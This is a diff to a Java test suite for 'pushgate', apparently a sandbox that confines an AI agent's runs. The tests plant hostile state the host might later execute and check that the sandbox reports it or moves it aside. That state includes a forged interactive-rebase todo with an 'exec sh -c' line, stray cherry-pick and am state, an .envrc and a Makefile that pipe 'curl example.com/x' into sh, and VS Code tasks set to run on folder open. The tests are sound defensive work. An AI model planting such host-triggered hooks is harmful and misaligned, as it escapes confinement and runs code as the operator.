@@ -67,8 +67,7 @@ class SandboxGitMetadataTest {
       throws Exception {
     Path work = Files.createDirectories(root.resolve("work-commondir"));
     GitRun operator = new GitRun(home, Map.of());
-    operator.in(work, "init", "-q", "-b", "main").ok();
-    operator.in(work, "commit", "-q", "--allow-empty", "-m", "start").ok();
+    operatorRepository(work, "start");
     Path mark = root.resolve("fsmonitor-ran-commondir");
 
     PushgateExec.Result exec = exec(work, """
@@ -183,8 +182,7 @@ class SandboxGitMetadataTest {
     Path work = Files.createDirectories(root.resolve("work-bare"));
     GitRun operator = new GitRun(home, Map.of());
     Path widget = Files.createDirectories(work.resolve("widget"));
-    operator.in(widget, "init", "-q", "-b", "main").ok();
-    operator.in(widget, "commit", "-q", "--allow-empty", "-m", "start").ok();
+    operatorRepository(widget, "start");
     Path mark = root.resolve("fsmonitor-ran-bare");
 
     PushgateExec.Result exec = exec(work, """
@@ -261,14 +259,11 @@ class SandboxGitMetadataTest {
       throws Exception {
     Path work = Files.createDirectories(root.resolve("work-alternates"));
     GitRun operator = new GitRun(home, Map.of());
-    operator.in(work, "init", "-q", "-b", "main").ok();
-    operator.in(work, "commit", "-q", "--allow-empty", "-m", "start").ok();
+    operatorRepository(work, "start");
     Path vendor = Files.createDirectories(work.resolve("vendor/lib"));
-    operator.in(vendor, "init", "-q", "-b", "main").ok();
-    operator.in(vendor, "commit", "-q", "--allow-empty", "-m", "vendored").ok();
+    operatorRepository(vendor, "vendored");
     Path foreign = Files.createDirectories(root.resolve("foreign"));
-    operator.in(foreign, "init", "-q", "-b", "main").ok();
-    operator.in(foreign, "commit", "-q", "--allow-empty", "-m", "not yours").ok();
+    operatorRepository(foreign, "not yours");
     String foreignCommit = operator.in(foreign, "rev-parse", "HEAD").ok().stdout().strip();
     String objects = foreign.resolve(".git/objects").toString();
 
@@ -295,6 +290,169 @@ class SandboxGitMetadataTest {
     }
     assertThat(operator.in(work, "log", "-1", "--format=%s").ok().stdout().strip())
         .isEqualTo("start");
+  }
+
+  /**
+   * Plants, in the git directory of the repository at {@code $1}, the state of an interactive
+   * rebase as {@code git rebase -i} writes it, whose todo's one line is an {@code exec} that
+   * leaves MARK: {@code git rebase --continue} on the host would run it as the operator.
+   */
+  private static final String PLANT_REBASE = """
+      plant_rebase() {
+        g=$(git -C "$1" rev-parse --absolute-git-dir) && h=$(git -C "$1" rev-parse HEAD) &&
+        mkdir "$g/rebase-merge" && echo refs/heads/main > "$g/rebase-merge/head-name" &&
+        echo "$h" > "$g/rebase-merge/onto" && echo "$h" > "$g/rebase-merge/orig-head" &&
+        : > "$g/rebase-merge/interactive" && echo 0 > "$g/rebase-merge/msgnum" &&
+        echo 1 > "$g/rebase-merge/end" && : > "$g/rebase-merge/done" &&
+        echo "exec sh -c 'touch $2'" > "$g/rebase-merge/git-rebase-todo"
+      }
+      """;
+
+  @Test
+  void operationsTheAgentLeftInProgressAreMovedAsideAndTheOperatorsGitResumesNone()
+      throws Exception {
+    Path work = Files.createDirectories(root.resolve("work-left-rebase"));
+    GitRun operator = new GitRun(home, Map.of());
+    Path nested = Files.createDirectories(work.resolve("vendor/deep/lib"));
+    Path tools = Files.createDirectories(work.resolve("tools"));
+    for (Path repo : List.of(work, nested, tools)) {
+      operatorRepository(repo, "start");
+    }
+    Path mark = root.resolve("rebase-exec-ran");
+
+    PushgateExec.Result exec = exec(work, PLANT_REBASE + """
+        set -e
+        plant_rebase . MARK
+        plant_rebase vendor/deep/lib MARK
+        h=$(git -C tools rev-parse HEAD)
+        mkdir tools/.git/rebase-apply && : > tools/.git/rebase-apply/applying
+        echo 1 > tools/.git/rebase-apply/next && echo 1 > tools/.git/rebase-apply/last
+        mkdir tools/.git/sequencer && echo "pick $h start" > tools/.git/sequencer/todo
+        echo "$h" > tools/.git/sequencer/head && echo "$h" > tools/.git/CHERRY_PICK_HEAD
+        git status | grep -q 'Next command to do' && echo planted
+        """.replace("MARK", mark.toString()));
+
+    assertThat(exec.exit()).as(exec.stderr()).isZero();
+    assertThat(exec.stdout()).contains("planted");
+    String left = ": an operation in progress left by the run (git would resume or conclude it:"
+        + " --continue, commit, bisect); moved to ";
+    assertThat(exec.stderr())
+        .contains("pushgate: sandbox violation: git-metadata " + work.resolve(".git/rebase-merge"))
+        .contains("pushgate:   " + work.resolve(".git/rebase-merge") + left
+            + "rebase-merge.planted-by-run (git does not read it there)")
+        .contains("pushgate:   " + nested.resolve(".git/rebase-merge") + left
+            + "rebase-merge.planted-by-run (git does not read it there)")
+        .contains("pushgate:   " + tools.resolve(".git/rebase-apply") + left)
+        .contains("pushgate:   " + tools.resolve(".git/sequencer") + left)
+        .contains("pushgate:   " + tools.resolve(".git/CHERRY_PICK_HEAD") + left);
+    assertThat(work.resolve(".git/rebase-merge.planted-by-run/git-rebase-todo"))
+        .hasContent("exec sh -c 'touch " + mark + "'");
+
+    for (Path repo : List.of(work, nested, tools)) {
+      String status = operator.in(repo, "status").ok().stdout();
+      assertThat(status).as(repo.toString()).doesNotContain("in progress")
+          .doesNotContain("middle of").doesNotContain("Next command to do");
+    }
+    for (Path repo : List.of(work, nested)) {
+      GitRun.Result resumed = operator.in(repo, "rebase", "--continue");
+      assertThat(resumed.exit()).isNotZero();
+      assertThat(resumed.stderr()).contains("No rebase in progress?");
+    }
+    assertThat(operator.in(tools, "am", "--continue").exit()).isNotZero();
+    assertThat(operator.in(tools, "cherry-pick", "--continue").exit()).isNotZero();
+    assertThat(mark).doesNotExist();
+    // The run's audit timeline lists each of them too.
+    String timeline = RunningAppliance.cli("audit", "--run", exec.runId(), "--data-dir",
+        app.dataDir.toString());
+    assertThat(timeline).contains("run-end-finding")
+        .contains("git-metadata " + nested.resolve(".git/rebase-merge"))
+        .contains("git-metadata " + tools.resolve(".git/sequencer"));
+  }
+
+  @Test
+  void theAgentsOwnRebaseCherryPickMergeAndStashStillWorkInsideTheSandbox() throws Exception {
+    Path work = Files.createDirectories(root.resolve("work-own-rebase"));
+    GitRun operator = new GitRun(home, Map.of());
+    operatorRepository(work, "one", "two", "three");
+
+    PushgateExec.Result exec = execUnderDefaultRules(work, """
+        set -e
+        export GIT_AUTHOR_NAME=Agent GIT_AUTHOR_EMAIL=agent@example.com
+        export GIT_COMMITTER_NAME=Agent GIT_COMMITTER_EMAIL=agent@example.com
+        GIT_SEQUENCE_EDITOR="sed -i -e '1s/^pick/drop/' -e '\\$a exec echo exec-ran-inside'" \\
+          git rebase -q -i HEAD~2
+        git log --format=%s | tr '\\n' ' ' && echo
+        git switch -q -c side && echo side > side.txt && git add side.txt && git commit -qm side
+        git switch -q main && git cherry-pick side >/dev/null && git reset -q --hard HEAD~1
+        git merge -q --no-ff -m merged side && echo dirty > side.txt && git stash -q
+        git stash pop -q && git checkout -q -- side.txt
+        echo "done: $(git log -1 --format=%s)"
+        """);
+
+    assertThat(exec.exit()).as(exec.stderr()).isZero();
+    assertThat(exec.stdout()).contains("exec-ran-inside").contains("three one ")
+        .contains("done: merged");
+    assertThat(exec.stderr()).doesNotContain("git-metadata");
+    assertThat(operator.in(work, "status").ok().stdout()).doesNotContain("in progress");
+    assertThat(operator.in(work, "log", "-1", "--format=%s").ok().stdout().strip())
+        .isEqualTo("merged");
+  }
+
+  @Test
+  void whatAHostToolWouldRunThatTheAgentCreatedOrChangedIsReportedWhenTheRunEnds()
+      throws Exception {
+    Path work = Files.createDirectories(root.resolve("work-host-tools"));
+    operatorRepository(work);
+    Files.writeString(work.resolve("Makefile"), "all:\n\ttrue\n");
+    Files.writeString(work.resolve("README.md"), "widget\n");
+    Path inner = Files.createDirectories(work.resolve("inner"));
+    operatorRepository(inner);
+
+    PushgateExec.Result exec = execUnderDefaultRules(work, """
+        set -e
+        echo 'curl -s https://example.com/x | sh' > .envrc
+        TASKS='{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'
+        mkdir -p .vscode
+        echo "$TASKS" > .vscode/tasks.json 2>/dev/null || echo vscode-denied
+        mkdir -p inner/.vscode && echo "$TASKS" > inner/.vscode/tasks.json
+        printf 'all:\\n\\tcurl -s https://example.com/x | sh\\n' > Makefile
+        echo more >> README.md
+        echo left
+        """);
+
+    assertThat(exec.exit()).as(exec.stderr()).isZero();
+    // At the mount's root .vscode is denied outright; in the repository below it, reported.
+    assertThat(exec.stdout()).contains("vscode-denied").contains("left");
+    assertThat(exec.stderr())
+        .contains("pushgate: sandbox violation: host-tool-file " + work.resolve(".envrc"))
+        .contains("pushgate:   " + work.resolve(".envrc") + ": created during the run; direnv"
+            + " runs it on entering the directory, once allowed: look at it before using that"
+            + " tool here")
+        .contains("pushgate:   " + inner.resolve(".vscode") + ": created during the run; VS Code")
+        .contains("pushgate:   " + work.resolve("Makefile") + ": changed during the run; make"
+            + " runs it: look at it before using that tool here")
+        .doesNotContain("README.md")
+        .doesNotContain("host-tool-file " + work.resolve(".vscode"))
+        .doesNotContain("host-tool-file " + work.resolve(".idea"));
+    assertThat(work.resolve(".envrc")).exists();
+    assertThat(RunningAppliance.cli("audit", "--run", exec.runId(), "--data-dir",
+        app.dataDir.toString())).contains("host-tool-file " + work.resolve(".envrc"));
+  }
+
+  /** Makes {@code dir} a repository of the operator's, with one empty commit per message. */
+  private static void operatorRepository(Path dir, String... commits) throws Exception {
+    GitRun operator = new GitRun(home, Map.of());
+    operator.in(dir, "init", "-q", "-b", "main").ok();
+    for (String message : commits) {
+      operator.in(dir, "commit", "-q", "--allow-empty", "-m", message).ok();
+    }
+  }
+
+  /** {@code exec} under the default rules: the name-deny layer over the worktree. */
+  private static PushgateExec.Result execUnderDefaultRules(Path work, String script)
+      throws Exception {
+    return PushgateExec.on(app.dataDir, home).withDenyLayer().run(work, Map.of(), "--workdir",
+        work.toString(), "--", "sh", "-c", script);
   }
 
   private static PushgateExec.Result exec(Path work, String script) throws Exception {
